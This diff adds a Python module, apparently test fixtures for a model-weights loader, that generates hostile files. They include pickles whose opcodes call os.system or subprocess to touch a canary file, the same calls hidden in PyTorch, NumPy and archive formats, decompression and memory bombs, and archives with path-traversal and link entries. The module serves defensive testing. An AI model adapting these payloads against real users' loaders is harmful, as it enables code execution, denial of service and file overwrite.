@@ -1,0 +1,259 @@
+"""Files that a stranger may hand over as weights: they call code, fill memory, or reach out of their folder.
+
+A payload tries to create the file `canary`.
+"""
+
+import functools
+import gzip
+import io
+import os
+import pickle
+import struct
+import tarfile
+import zipfile
+from typing import Dict, NamedTuple, Optional
+
+import numpy as np
+
+
+class Hostile(NamedTuple):
+    """A file; `control` is Python that reads `path` as careless programs do, and sets the payload free."""
+
+    content: bytes
+    control: Optional[str] = None
+
+
+PLAIN = "import pickle; pickle.load(open(path, 'rb'))"
+EXTENSION = 0x1234
+
+
+class Call:
+    """Pickled, it is a call of os.system."""
+
+    def __init__(self, canary: str):
+        self.canary = canary
+
+    def __reduce__(self):
+        return os.system, (f"touch {self.canary}",)
+
+
+# ---- pickles that call code
+
+def _literal(value) -> bytes:
+    return pickle.dumps(value, 2)[2:-1]
+
+
+def _name(module: str, name: str) -> bytes:
+    return f"c{module}\n{name}\n".encode()
+
+
+def _finished(body: bytes, protocol: int = 2) -> bytes:
+    return b"\x80" + bytes([protocol]) + body + b"."
+
+
+def opcodes(canary: str) -> Dict[str, Hostile]:
+    """Each opcode by which a pickle can call something."""
+    command = _literal(f"touch {canary}")
+    arguments = b"(" + _literal(["touch", canary]) + b"t"
+    bodies = {
+        "REDUCE": _name("os", "system") + b"(" + command + b"tR",
+        "REDUCE of eval": _name("builtins", "eval") + b"(" + _literal(f"open({canary!r}, 'w')") + b"tR",
+        "INST": b"(" + command + b"ios\nsystem\n",
+        "OBJ": b"(" + _name("subprocess", "Popen") + _literal(["touch", canary]) + b"o",
+        "NEWOBJ": _name("subprocess", "Popen") + arguments + b"\x81" + b"0" + b"(" + command + b"ios\nsystem\n",
+        "NEWOBJ_EX": _name("subprocess", "Popen") + arguments + b"}\x92" + b"0" + b"(" + command + b"ios\nsystem\n",
+        "BUILD with __setstate__": _name("types", "SimpleNamespace") + b")R" + b"}" + _literal("__setstate__")
+                                   + _name("os", "system") + b"sb" + command + b"b",
+        "STACK_GLOBAL": _literal("os") + _literal("system") + b"\x93" + command + b"\x85R",
+        "a dotted STACK_GLOBAL": _literal("posixpath") + _literal("os.system") + b"\x93" + command + b"\x85R",
+        "getattr": _name("builtins", "getattr") + b"(" + _name("os", "path") + _literal("os") + b"tR0"
+                   + _name("os", "system") + command + b"\x85R",
+        "a call after a whole mapping": b"}0" + _name("os", "system") + command + b"\x85R0}",
+    }
+    files = {name: Hostile(_finished(body, 4), PLAIN) for name, body in bodies.items()}
+    register = f"import copyreg; copyreg.add_extension('os', 'system', {EXTENSION}); "
+    files["EXT2"] = Hostile(_finished(b"\x83" + struct.pack("<H", EXTENSION) + command + b"\x85R"), register + PLAIN)
+    files["EXT4"] = Hostile(_finished(b"\x84" + struct.pack("<I", EXTENSION) + command + b"\x85R"), register + PLAIN)
+    files["a persistent id"] = Hostile(_finished(command + b"Q"), (
+        "import os, pickle; reader = pickle.Unpickler(open(path, 'rb')); reader.persistent_load = os.system; "
+        "reader.load()"))
+    files["a persistent id in text"] = Hostile(b"Ptouch " + canary.encode() + b"\n.", files["a persistent id"].control)
+    return files
+
+
+def nested(canary: str) -> Dict[str, Hostile]:
+    """The call where weights, or what stands beside them, are expected."""
+    call, array = Call(canary), np.ones(3, "float32")
+    objects = np.empty(1, object)
+    objects[0] = call
+    contents = {
+        "among weights": {"a": array, "b": call},
+        "below state_dict": {"state_dict": {"a": array, "b": call}},
+        "beside state_dict": {"state_dict": {"a": array}, "optimizer": call},
+        "in the table of names": {"a": array, "StructuredToParameterName@@": call},
+        "in a pair of Paddle's": {"a": ("name", call)},
+        "as a key": {call: array},
+        "in an array of objects": {"a": objects},
+    }
+    return {name: Hostile(pickle.dumps(content, 4), PLAIN) for name, content in contents.items()}
+
+
+# ---- other formats around a pickle that calls code
+
+def _zip(entries: Dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
+    stream = io.BytesIO()
+    with zipfile.ZipFile(stream, "w", compression) as archive:
+        for name, content in entries.items():
+            archive.writestr(name, content)
+    return stream.getvalue()
+
+
+def _tar(members, mode: str = "w") -> bytes:
+    """Of (TarInfo, content) pairs."""
+    stream = io.BytesIO()
+    with tarfile.open(fileobj=stream, mode=mode) as archive:
+        for info, content in members:
+            info.size = len(content)
+            archive.addfile(info, io.BytesIO(content))
+    return stream.getvalue()
+
+
+def _legacy(pickles) -> bytes:
+    system = {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}
+    return b"".join(pickle.dumps(head, 2) for head in (0x1950a86a20f9469cfc6c, 1001, system)) + b"".join(pickles)
+
+
+def wrapped(canary: str) -> Dict[str, Hostile]:
+    """The call inside the formats of PyTorch and NumPy, and inside archives."""
+    evil = pickle.dumps({"a": Call(canary)}, 2)
+    stream = io.BytesIO()
+    np.save(stream, np.array({"a": Call(canary)}, object), allow_pickle=True)
+    in_zip = "import pickle, zipfile; pickle.loads(zipfile.ZipFile(path).read({!r}))"
+    in_tar = "import pickle, tarfile; pickle.load(tarfile.open(path).extractfile({!r}))"
+    four = "import pickle; file = open(path, 'rb'); [pickle.load(file) for _ in range({})]"
+    return {
+        "torch.save's zip": Hostile(_zip({"archive/data.pkl": evil, "archive/version": b"3\n"}),
+                                    in_zip.format("archive/data.pkl")),
+        "torch.save's old format": Hostile(_legacy([evil, pickle.dumps([], 2)]), four.format(4)),
+        "the list of keys of torch.save's old format": Hostile(
+            _legacy([pickle.dumps({}, 2), pickle.dumps([Call(canary)], 2)]), four.format(5)),
+        "torch.save's first format, a tar": Hostile(_tar([(tarfile.TarInfo("pickle"), evil)]), in_tar.format("pickle")),
+        "an .npy": Hostile(stream.getvalue(), "import numpy; numpy.load(path, allow_pickle=True)"),
+        "a .tar.gz": Hostile(_tar([(tarfile.TarInfo("x/model.pdparams"), evil)], "w:gz"),
+                             in_tar.format("x/model.pdparams")),
+        "a .zip": Hostile(_zip({"model.pdparams": evil}, zipfile.ZIP_DEFLATED), in_zip.format("model.pdparams")),
+    }
+
+
+# ---- what would fill memory, disk or time
+
+def _array(shape: tuple, data: bytes) -> bytes:
+    made = _name("numpy.core.multiarray", "_reconstruct") + b"(" + _name("numpy", "ndarray") + _literal(
+        (0,)) + _literal("b") + b"tR"
+    dtype = _name("numpy", "dtype") + b"(" + _literal("f4") + b"tR"
+    values = b"C" + bytes([len(data)]) + data
+    return made + b"(" + _literal(1) + _literal(shape) + dtype + _literal(False) + values + b"tb"
+
+
+def _tensor(storage_size: int, size: tuple, stride: tuple) -> bytes:
+    stored = (b"(" + _literal("storage") + _name("torch", "FloatStorage") + _literal("0") + _literal("cpu")
+              + _literal(storage_size) + b"tQ")
+    hooks = _name("collections", "OrderedDict") + b")R"
+    return (_name("torch._utils", "_rebuild_tensor_v2") + b"(" + stored + _literal(0) + _literal(size)
+            + _literal(stride) + _literal(False) + hooks + b"tR")
+
+
+def _one(value: bytes) -> bytes:
+    return _finished(b"}" + _literal("a") + value + b"s", 4)
+
+
+@functools.cache
+def greedy() -> Dict[str, Hostile]:
+    """Claims beyond what is there, and little that unfolds to much."""
+    laughs = b"]\x940" + b"".join(b"](" + (b"h" + bytes([level])) * 10 + b"e\x940" for level in range(60)) + b"h\x3c"
+    equal_hashes = b"".join(b"\x8a\x0b" + (index * (2 ** 61 - 1)).to_bytes(11, "little") + b"N"
+                            for index in range(1, 200_000))
+    header = tarfile.TarInfo("model.pdparams")
+    header.size = 1 << 43
+    sparse = tarfile.TarInfo("model.pdparams")
+    sparse.type, sparse.size = tarfile.GNUTYPE_SPARSE, 512
+    name_of_gigabytes = tarfile.TarInfo("x")
+    name_of_gigabytes.type, name_of_gigabytes.size = tarfile.GNUTYPE_LONGNAME, 1 << 33
+    pax = tarfile.TarInfo("model.pdparams")
+    pax.pax_headers = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.name": "model.pdparams",
+                       "GNU.sparse.realsize": str(1 << 43)}
+    contents = {
+        "a shape of 10^12": _one(_array((10 ** 12,), b"1234")),
+        "a shape that wraps around": _one(_array((2 ** 62, 4), b"")),
+        "a tensor that repeats one value 10^12 times": _zip({
+            "archive/data.pkl": _one(_tensor(1, (10 ** 12,), (0,))), "archive/data/0": b"1234"}),
+        "a storage of 10^15": _zip({
+            "archive/data.pkl": _one(_tensor(10 ** 15, (1,), (1,))), "archive/data/0": b"1234"}),
+        "text of 10^12": _finished(b"\x8d" + struct.pack("<Q", 10 ** 12) + b"x", 4),
+        "a frame of 10^15": b"\x80\x04\x95" + struct.pack("<Q", 10 ** 15) + b"N.",
+        "a memo of 4 billion": _one(b"]r\xff\xff\xff\xff"),
+        "billion laughs": _one(laughs),
+        "a list in itself": _one(b"]\x94h\x00a"),
+        "lists in lists": _one(b"]" * 100_000 + b"a" * 99_999),
+        "a deep key": _finished(b"})" + b"\x85" * 400_000 + b"Ns", 4),
+        "keys of equal hash": _finished(b"}(" + equal_hashes + b"u", 4),
+        "millions of marks": _finished(b"(" * 5_000_000, 4),
+        "a zip bomb": _zip({"model.pdparams": bytes(32 << 20)}, zipfile.ZIP_DEFLATED),
+        "a zip bomb for PyTorch": _zip({"archive/data.pkl": bytes(32 << 20)}, zipfile.ZIP_DEFLATED),
+        "a gzip bomb": gzip.compress(header.tobuf(tarfile.GNU_FORMAT) + bytes(32 << 20), 9),
+        "a gzip bomb without a name": gzip.compress(name_of_gigabytes.tobuf(tarfile.GNU_FORMAT) + bytes(32 << 20), 9),
+        "a tar of terabytes": header.tobuf(tarfile.GNU_FORMAT) + bytes(1024),
+        "a sparse tar": sparse.tobuf(tarfile.GNU_FORMAT) + bytes(2048),
+        "a sparse tar of pax": _tar([(pax, b"1\n0\n1000\n")]),
+        "a thousand and one files": _tar([(tarfile.TarInfo(str(index)), b"") for index in range(1001)]),
+    }
+    return {name: Hostile(content) for name, content in contents.items()}
+
+
+# ---- paths that lead out of the archive's folder
+
+def tricky(canary: str, weights: bytes) -> Dict[str, Hostile]:
+    """Archives of a whole weights file and of something that unpacks elsewhere, to `canary` where it can."""
+    good = ("model.pdparams", weights)
+    up = "../" * 30 + canary.lstrip("/")
+    names = {"..": up, ".. further in": f"a/{up}", "an absolute path": canary, "a drive": "C:\\model.pdparams",
+             "backslashes": up.replace("/", "\\"), "a newline": "a\nb.txt", "an escape": "a\x1b[2Jb.txt",
+             "a NUL": "model.txt\0/../../x"}
+    files = {}
+    for what, name in names.items():
+        files[f"a zip with {what}"] = _zip_with_any_name(good, name)
+        info = tarfile.TarInfo(name)
+        info.pax_headers = {"path": name}
+        files[f"a tar with {what}"] = _tar([(tarfile.TarInfo(good[0]), good[1]), (info, b"x")])
+    kinds = {"a symbolic link": tarfile.SYMTYPE, "a hard link": tarfile.LNKTYPE, "a device": tarfile.CHRTYPE,
+             "a disk": tarfile.BLKTYPE, "a pipe": tarfile.FIFOTYPE}
+    for what, kind in kinds.items():
+        info = tarfile.TarInfo("model.pdparams")
+        info.type, info.linkname, info.devmajor, info.devminor = kind, canary, 1, 5
+        files[f"a tar with {what}"] = _tar([(info, b"")])
+    folder, inside = tarfile.TarInfo("a"), tarfile.TarInfo(f"a/{os.path.basename(canary)}")
+    folder.type, folder.linkname = tarfile.SYMTYPE, os.path.dirname(canary)
+    files["a tar with a file through a link"] = _tar([
+        (folder, b""), (inside, b"x"), (tarfile.TarInfo(good[0]), good[1])])
+    link = zipfile.ZipInfo("a")
+    link.external_attr = 0o120777 << 16
+    stream = io.BytesIO()
+    with zipfile.ZipFile(stream, "w") as archive:
+        archive.writestr(link, os.path.dirname(canary))
+        archive.writestr(f"a/{os.path.basename(canary)}", b"x")
+        archive.writestr(*good)
+    files["a zip with a file through a link"] = stream.getvalue()
+    return {name: Hostile(content) for name, content in files.items()}
+
+
+def _zip_with_any_name(good, name: str) -> bytes:
+    """zipfile cuts names at a NUL; so another name of the same length is written, and replaced."""
+    place = "#" * len(name.encode())
+    return _zip({good[0]: good[1], place: b"x"}).replace(place.encode(), name.encode())
+
+
+def hostile_files(canary: str, weights: bytes = b"") -> Dict[str, Hostile]:
+    """All of them, by family and name; `weights` is a file that would be read."""
+    families = {"opcode": opcodes(canary), "nested": nested(canary), "wrapped": wrapped(canary), "greedy": greedy(),
+                "tricky": tricky(canary, weights)}
+    return {f"{family}: {name}": file for family, files in families.items() for name, file in files.items()}
